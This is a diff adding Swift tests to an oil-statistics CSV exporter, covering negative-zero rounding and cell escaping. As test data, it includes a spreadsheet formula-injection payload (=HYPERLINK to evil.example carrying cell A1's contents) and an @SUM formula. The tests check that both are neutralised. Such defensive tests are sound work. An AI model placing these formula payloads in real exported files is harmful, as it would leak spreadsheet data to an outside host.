@@ -1,5 +1,6 @@
 import Foundation
 import OilStatCore
+import OilStatReport
 import Testing
 @testable import OilStatImport
 
@@ -98,5 +99,36 @@ struct JODIShareTaskTests {
         let output = folder.appendingPathComponent("shares.csv").path
         #expect(try JODIShareTask.run(input: input, output: output) == 1271)
         #expect(try SHA256Hasher.hex(ofFile: output) == expected)
+    }
+
+    @Test func aChangeThatRoundsToZeroHasNoMinusSign() throws {
+        // 999.99999 after 1000: −0.00001 kb/d, −0.000001 %; printf gives "-0.0000", every renderer "0.0000".
+        let path = try ImportTestSupport.temporaryFile(ImportTestSupport.jodiHeader + """
+            SA,2023-12,CRUDEOIL,INDPROD,KBD,1000,1
+            SA,2024-01,CRUDEOIL,INDPROD,KBD,999.99999,1
+
+            """)
+        let text = String(decoding: JODIShareTask.csv(try JODIShareTask.rows(path: path)), as: UTF8.self)
+        #expect(text.hasSuffix("SA,2024-01,1000.0000,100.0000,0.0000,0.0000\n"))
+    }
+
+    @Test func theStreamingCSVIsByteForByteTheRenderersCSV() throws {
+        // One encoder: the fast path and CSVRenderer on the share table agree, hostile codes and negative zero too.
+        let rows = [
+            ShareRow(country: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", month: "2024-01", kbd: 600,
+                     sharePct: 60, momChangeKBD: -0.00001, momChangePct: -0.0),
+            ShareRow(country: "a,b\nc", month: "2024-01", kbd: 300, sharePct: 30, momChangeKBD: nil, momChangePct: nil),
+            ShareRow(country: "x\"y", month: "2024-01", kbd: 100.123456, sharePct: 10, momChangeKBD: -2.5,
+                     momChangePct: -0.00005),
+            ShareRow(country: "@SUM(1+1)", month: "2024-01", kbd: 0.78125, sharePct: nil, momChangeKBD: 1e12,
+                     momChangePct: 0.5),
+        ]
+        let fast = String(decoding: JODIShareTask.csv(rows), as: UTF8.self)
+        let rendered = CSVRenderer().render(ShareRow.reportTable(rows, fileName: "f.csv"))
+        #expect(fast == rendered)
+        #expect(fast.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
+            + "2024-01,600.0000,60.0000,0.0000,0.0000\n"))
+        #expect(fast.contains("\"a,b\nc\",2024-01,300.0000,30.0000,,\n"))
+        #expect(fast.contains("'@SUM(1+1),2024-01,0.7812,,1000000000000.0000,0.5000\n"))
     }
 }
